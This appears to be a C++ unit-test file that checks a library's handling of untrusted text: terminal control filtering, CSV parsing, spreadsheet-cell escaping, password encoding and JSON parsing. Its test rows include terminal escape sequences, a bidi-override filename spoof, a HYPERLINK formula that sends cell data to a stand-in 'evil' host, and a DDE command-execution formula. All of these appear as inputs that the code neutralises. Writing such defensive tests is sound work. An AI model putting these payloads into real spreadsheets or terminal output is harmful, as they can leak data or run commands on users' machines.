// Untrusted texts: the CSV and JSON readers, the spreadsheet cells, the
// password rule and the terminal filter, one case per row.

#include "csv.h"
#include "json.h"
#include "password.h"
#include "printable.h"

#include <gtest/gtest.h>

#include <clocale>
#include <string>
#include <vector>

namespace {

struct TextCase {
    const char *name;
    std::string in;
    std::string out;
};

class Printable : public testing::TestWithParam<TextCase> {};

TEST_P(Printable, ShowsControlsAsQuestionMarksAndWritesUtf8) {
    EXPECT_EQ(veltrona::printable(GetParam().in), GetParam().out);
}

INSTANTIATE_TEST_SUITE_P(
    Rows, Printable,
    testing::Values(TextCase{"plain", "cam-01.example", "cam-01.example"},
                    TextCase{"empty", "", ""},
                    TextCase{"c0_and_esc", std::string("a\0b\tc\r\n\033[31m", 12), "a?b?c???[31m"},
                    TextCase{"title_sequence", "\033]0;TITLE\a\033[31m", "?]0;TITLE??[31m"},
                    TextCase{"del",
                             "a\x7f"
                             "b",
                             "a?b"},
                    TextCase{"c1_as_utf8",
                             "a\xc2\x9b"
                             "2J",
                             "a?2J"},
                    TextCase{"c1_as_latin1_byte",
                             "a\x9b"
                             "2J",
                             "a?2J"},
                    TextCase{"c1_edges_as_bytes", "\x80\x9f\xa0", "??\xc2\xa0"},
                    TextCase{"latin1_letter_becomes_utf8", "gr\xfcn", "gr\xc3\xbcn"},
                    TextCase{"utf8_kept", "gr\xc3\xbcn \xe2\x82\xac \xf0\x9f\x93\xb7",
                             "gr\xc3\xbcn \xe2\x82\xac \xf0\x9f\x93\xb7"},
                    TextCase{"overlong_esc_is_bytes", "\xc0\x9b", "\xc3\x80?"},
                    TextCase{"cut_sequence_is_bytes", "\xe2\x82", "\xc3\xa2?"},
                    TextCase{"surrogate_is_bytes", "\xed\xa0\x80", "\xc3\xad\xc2\xa0?"},
                    TextCase{"bidi_override_and_isolate",
                             "cam\xe2\x80\xae"
                             "4pm.exe\xe2\x81\xa6x\xe2\x81\xa9",
                             "cam?4pm.exe?x?"},
                    TextCase{"zero_width_and_byte_order_mark",
                             "a\xe2\x80\x8b"
                             "b\xe2\x80\x8d"
                             "c\xef\xbb\xbf"
                             "d",
                             "a?b?c?d"},
                    TextCase{"line_and_paragraph_separators",
                             "a\xe2\x80\xa8"
                             "b\xe2\x80\xa9"
                             "c",
                             "a?b?c"},
                    TextCase{"neighbours_kept", "\xe2\x80\x8a\xe2\x80\xaf\xe2\x81\xb0",
                             "\xe2\x80\x8a\xe2\x80\xaf\xe2\x81\xb0"},
                    TextCase{"mixed_utf8_message_and_latin1_device_byte",
                             "host '\xe9\x9b' \xc3\xa9", "host '\xc3\xa9?' \xc3\xa9"}),
    [](const testing::TestParamInfo<TextCase> &info) { return std::string(info.param.name); });

TEST(Latin1, EveryByteIsOneCharacterAndWidthCountsCharacters) {
    std::string all;
    for (int b = 0; b < 256; ++b)
        all += static_cast<char>(b);
    const std::string utf8 = veltrona::latin1ToUtf8(all);
    EXPECT_EQ(utf8.size(), 128u + 2 * 128u);
    EXPECT_EQ(veltrona::displayWidth(utf8), 256u);
    EXPECT_EQ(veltrona::printable(utf8), veltrona::printable(all));
}

struct CsvCase {
    const char *name;
    std::string in;
    std::vector<std::vector<std::string>> records; // each starting with its row number
    std::string problem;
};

class Csv : public testing::TestWithParam<CsvCase> {};

TEST_P(Csv, ReadsRecordsAndNamesTheRowOfAProblem) {
    std::vector<std::vector<std::string>> records;
    const std::string problem = veltrona::readCsv(
        GetParam().in,
        [&](const veltrona::CsvRecord &record) {
            records.push_back({std::to_string(record.row)});
            records.back().insert(records.back().end(), record.cells.begin(), record.cells.end());
            return true;
        },
        4);
    EXPECT_EQ(problem, GetParam().problem);
    EXPECT_EQ(records, GetParam().records);
}

INSTANTIATE_TEST_SUITE_P(
    Rows, Csv,
    testing::Values(
        CsvCase{"plain_lf", "a,b\nc,d\n", {{"1", "a", "b"}, {"2", "c", "d"}}, ""},
        CsvCase{"crlf_and_no_last_line_end", "a,b\r\nc,d", {{"1", "a", "b"}, {"2", "c", "d"}}, ""},
        CsvCase{"lone_cr", "a\rb", {{"1", "a"}, {"2", "b"}}, ""},
        CsvCase{"byte_order_mark", "\xEF\xBB\xBFmac,user\n", {{"1", "mac", "user"}}, ""},
        CsvCase{"comma_in_quotes", "\"Pa,ss\",x\n", {{"1", "Pa,ss", "x"}}, ""},
        CsvCase{"doubled_quotes", "\"say \"\"hi\"\"\"\n", {{"1", "say \"hi\""}}, ""},
        CsvCase{"line_end_in_quotes_counts_rows",
                "\"two\nlines\",x\ny\n",
                {{"1", "two\nlines", "x"}, {"3", "y"}},
                ""},
        CsvCase{"spaces_kept", " a , secret \n", {{"1", " a ", " secret "}}, ""},
        CsvCase{"empty_rows_skipped_quoted_empty_kept", ",,\n\n\"\"\n", {{"3", ""}}, ""},
        CsvCase{"trailing_comma_is_an_empty_cell", "a,\n", {{"1", "a", ""}}, ""},
        CsvCase{"unterminated_quote_names_its_row",
                "a\n\"b\nc,d\ne\n",
                {{"1", "a"}},
                "row 2: a quote opens a cell and is never closed"},
        CsvCase{"text_after_closing_quote",
                "\"a\"b\n",
                {},
                "row 1: text follows a quoted cell's closing quote"},
        CsvCase{"quote_inside_unquoted_cell",
                "ok\nsecret\"x\n",
                {{"1", "ok"}},
                "row 2: a quote inside a cell that does not start with one (quote the whole "
                "cell)"},
        CsvCase{"too_many_cells", "a\n,,,,,,,,\n", {{"1", "a"}}, "row 2: more than 4 cells"}),
    [](const testing::TestParamInfo<CsvCase> &info) { return std::string(info.param.name); });

struct CellCase {
    const char *name;
    std::string text;
    std::string cell; // as written for a spreadsheet
};

class SpreadsheetCell : public testing::TestWithParam<CellCase> {};

TEST_P(SpreadsheetCell, FormulaStartsGetAnApostropheThatReadingRemoves) {
    EXPECT_EQ(veltrona::spreadsheetText(GetParam().text), GetParam().cell);
    EXPECT_EQ(veltrona::fromSpreadsheetText(GetParam().cell), GetParam().text);
}

INSTANTIATE_TEST_SUITE_P(
    Rows, SpreadsheetCell,
    testing::Values(CellCase{"plain", "cam-01", "cam-01"}, CellCase{"empty", "", ""},
                    CellCase{"equals", "=HYPERLINK(\"http://evil/\"&A1,\"x\")",
                             "'=HYPERLINK(\"http://evil/\"&A1,\"x\")"},
                    CellCase{"plus", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
                    CellCase{"minus", "-1", "'-1"}, CellCase{"at", "@SUM(1+1)", "'@SUM(1+1)"},
                    CellCase{"tab", "\tx", "'\tx"}, CellCase{"cr", "\rx", "'\rx"},
                    CellCase{"apostrophe_itself", "'=x", "''=x"},
                    CellCase{"apostrophe_plain", "'a", "''a"},
                    CellCase{"formula_char_inside", "a=b", "a=b"}),
    [](const testing::TestParamInfo<CellCase> &info) { return std::string(info.param.name); });

struct PasswordCase {
    const char *name;
    std::string locale; // bytes as typed in a UTF-8 locale
    std::string latin1; // as sent; empty with a problem
    std::string problem;
};

class Password : public testing::TestWithParam<PasswordCase> {};

TEST_P(Password, DecodedFromTheLocaleAndSentAsLatin1) {
    ASSERT_NE(std::setlocale(LC_CTYPE, "C.UTF-8"), nullptr);
    std::string problem;
    const auto latin1 = veltrona::passwordFromLocale(GetParam().locale, 16, problem);
    std::setlocale(LC_CTYPE, "C");
    EXPECT_EQ(problem, GetParam().problem);
    EXPECT_EQ(latin1.value_or("(none)"), GetParam().problem.empty() ? GetParam().latin1 : "(none)");
}

INSTANTIATE_TEST_SUITE_P(
    Rows, Password,
    testing::Values(
        PasswordCase{"ascii", "Hunter2!", "Hunter2!", ""},
        PasswordCase{"umlaut", "gr\xc3\xbcn", "gr\xfcn", ""},
        PasswordCase{"spaces_kept", " secret ", " secret ", ""},
        PasswordCase{"sixteen_latin1_from_32_bytes",
                     "\xc3\xa4\xc3\xa4\xc3\xa4\xc3\xa4\xc3\xa4\xc3\xa4\xc3\xa4\xc3\xa4"
                     "\xc3\xa4\xc3\xa4\xc3\xa4\xc3\xa4\xc3\xa4\xc3\xa4\xc3\xa4\xc3\xa4",
                     std::string(16, '\xe4'), ""},
        PasswordCase{"seventeen", "12345678901234567", "", "is longer than 16 characters"},
        PasswordCase{"euro_sign", "\xe2\x82\xac", "",
                     "holds a character that cannot be sent (devices take Latin-1 characters "
                     "only)"},
        PasswordCase{"latin1_byte_in_utf8_locale", "gr\xfcn", "",
                     "holds bytes that are not text in the locale's character set"},
        PasswordCase{"zero_byte", std::string("a\0b", 3), "", "holds a zero byte"}),
    [](const testing::TestParamInfo<PasswordCase> &info) { return std::string(info.param.name); });

TEST(Json, ReaderTakesExactlyOneValue) {
    using veltrona::json::Value;
    for (const char *bad :
         {"", "{", "{\"a\":1,}", "[1 2]", "01", "1.", "-", "\"\x01\"", "\"\\ud800\"", "\"\\x\"",
          "nul", "{} {}", "{\"a\" 1}", "\"caf\xe9\"", "\"\xed\xa0\x80\""})
        EXPECT_FALSE(Value::parse(bad)) << bad;
    EXPECT_FALSE(Value::parse(std::string(Value::kMaxDepth + 2, '[') +
                              std::string(Value::kMaxDepth + 2, ']')));
    const auto value = Value::parse(" {\"n\": [32153, -2.5e1, 1e400, 3.0], \"s\": "
                                    "\"\\u00e9\\ud83d\\ude00\\n\", \"s\": \"last\"} ");
    ASSERT_TRUE(value);
    const std::vector<Value> &n = (*value)["n"].elements();
    ASSERT_EQ(n.size(), 4u);
    EXPECT_EQ(n[0].integer(), 32153);
    EXPECT_EQ(n[1].integer(), -25);
    EXPECT_EQ(n[2].integer(), std::nullopt);
    EXPECT_EQ(n[3].integer(), 3);
    EXPECT_EQ((*value)["s"].text(), "last");
    EXPECT_EQ(Value::parse("\"\\u00e9\\ud83d\\ude00\\n\"")->text(), "\xc3\xa9\xf0\x9f\x98\x80\n");
    EXPECT_TRUE((*value)["missing"]["deeper"].isNull());

    // Written with the members in order, texts escaped and made UTF-8.
    Value object = Value::object();
    object.insert("z", Value::array().append(Value::number(-1)).append(Value()));
    object.insert("a", Value::string("\xEF\xBB\xBFq\"\x01\xe9"));
    object.insert("e", Value::object());
    EXPECT_EQ(object.write(), "{\n    \"a\": \"q\\\"\\u0001\xEF\xBF\xBD\",\n    \"e\": {\n    },\n"
                              "    \"z\": [\n        -1,\n        null\n    ]\n}\n");
    EXPECT_EQ(object.write(Value::Layout::Compact),
              "{\"a\":\"q\\\"\\u0001\xEF\xBF\xBD\",\"e\":{},\"z\":[-1,null]}");
}

} // namespace
